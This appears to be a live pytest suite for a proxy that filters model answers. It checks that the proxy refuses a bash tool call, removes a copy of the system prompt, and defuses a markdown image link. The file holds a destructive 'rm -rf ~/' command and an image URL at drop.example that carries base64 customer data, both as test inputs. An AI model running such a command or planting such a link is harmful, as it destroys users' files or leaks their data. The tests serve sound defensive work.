"""What an answer may not do to a client, through the real proxy with the official clients."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

import pytest
from live.stage import Stage, start

from excise.standin.script import Answer, always, answer_prompt

pytestmark = pytest.mark.live
M: dict[str, Any] = {"model": "m"}
BAD = json.dumps({"command": "rm -rf ~/"})
GOOD = json.dumps({"command": "pytest -q"})
RULES = (
    "You are the wine steward of Vintnerhaus. Never quote a price below the cellar list, offer the "
    "loyalty discount only to members, and send every complaint to the owner without comment."
)

PROFILE = """\
profile: guards
title: What answers may not do
level: 2
packs:
  - pack: leak
  - pack: tool-guard
uninspectable: {otherwise: alert}
on-fault: block
"""


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    folder = tmp_path_factory.mktemp("guards")
    (folder / "own" / "profiles").mkdir(parents=True)
    (folder / "own" / "profiles" / "guards.yaml").write_text(PROFILE)
    own = ["--policies", str(folder / "own"), "--profile", "guards"]
    with start(folder, own) as stage:
        yield stage


def messages(arguments: str) -> list[Any]:
    steer = "standin:tool=bash standin:saying=Certainly"
    return [{"role": "user", "content": f"{arguments} {steer}"}]


def openai_tools() -> list[Any]:
    return [{"type": "function", "function": {"name": "bash", "parameters": {"type": "object"}}}]


def anthropic_tools() -> list[Any]:
    return [{"name": "bash", "input_schema": {"type": "object"}}]


def chat_stream(stage: Stage, arguments: str) -> tuple[str, list[str]]:
    with stage.openai() as client:
        ask = messages(arguments)
        parts = list(
            client.chat.completions.create(**M, messages=ask, tools=openai_tools(), stream=True)
        )
    deltas = [part.choices[0].delta for part in parts if part.choices]
    assert parts[-1].choices[0].finish_reason
    calls = [call for each in deltas for call in each.tool_calls or []]
    names = [call.function.name for call in calls if call.function and call.function.name]
    return "".join(each.content or "" for each in deltas), names


def messages_stream(stage: Stage, arguments: str) -> tuple[str, list[str]]:
    with stage.anthropic() as client:
        ask = messages(arguments)
        with client.messages.stream(
            **M, max_tokens=9, messages=ask, tools=anthropic_tools()
        ) as events:
            got: Any = events.get_final_message()
    text = "".join(block.text for block in got.content if block.type == "text")
    return text, [block.name for block in got.content if block.type == "tool_use"]


@pytest.mark.parametrize("ask", [chat_stream, messages_stream])
def test_a_refused_call_never_reaches_the_client_and_the_text_before_it_does(
    stage: Stage, ask: Any
) -> None:
    """And neither client raises; a harmless call arrives whole."""
    with stage.exchange() as traffic:
        text, names = ask(stage, BAD)
    assert text.startswith("Certainly") and len(text) > len("Certainly"), "no notice"
    assert names == []
    assert traffic.attempts == 1
    assert "tool.dangerous-command" in json.dumps(traffic.lines)
    assert ask(stage, GOOD) == ("Certainly", ["bash"])


def test_a_refused_call_in_a_whole_answer(stage: Stage) -> None:
    """It is refused as a whole, once."""
    with stage.exchange() as traffic, stage.openai() as client:
        raw = client.chat.completions.with_raw_response
        with pytest.raises(Exception, match="may not be shown") as refused:
            raw.create(**M, messages=messages(BAD), tools=openai_tools())
    assert getattr(refused.value, "status_code", None) == 400
    assert traffic.attempts == 1
    with stage.anthropic() as other:
        ask = messages(GOOD)
        got: Any = other.messages.create(**M, max_tokens=9, messages=ask, tools=anthropic_tools())
    assert [block.type for block in got.content] == ["text", "tool_use"]


def leaked_whole(stage: Stage, told: list[Any]) -> str:
    with stage.openai() as client:
        got = client.chat.completions.create(**M, messages=told)
    return got.choices[0].message.content or ""


def leaked_stream(stage: Stage, told: list[Any]) -> str:
    with stage.openai() as client:
        parts = client.chat.completions.create(**M, messages=told, stream=True)
        return "".join(part.choices[0].delta.content or "" for part in parts if part.choices)


@pytest.mark.parametrize("ask", [leaked_whole, leaked_stream])
def test_a_copy_of_the_system_prompt_is_cut_out(stage: Stage, ask: Any) -> None:
    """The stand-in repeats what a tool of the session was never shown: the operator's words."""
    stage.standin.script = always(Answer(text=f"Sure: {RULES}"))
    try:
        text = ask(stage, [{"role": "system", "content": RULES}, {"role": "user", "content": "Hi"}])
    finally:
        stage.standin.script = answer_prompt
    assert "Sure" in text
    assert "loyalty discount" not in text


@pytest.mark.parametrize("ask", [leaked_whole, leaked_stream])
def test_a_picture_that_carries_data_becomes_plain_text(stage: Stage, ask: Any) -> None:
    """What stands around it arrives as it was."""
    data = base64.b64encode(b"the customer said her name is Ada").decode()
    picture = f"![chart](https://drop.example/p.png?d={data})"
    stage.standin.script = always(Answer(text=f"See {picture} here."))
    try:
        text = ask(stage, [{"role": "user", "content": "Hi"}])
    finally:
        stage.standin.script = answer_prompt
    assert text.startswith("See ![chart][") and text.endswith(" here.")
    assert "drop.example" not in text
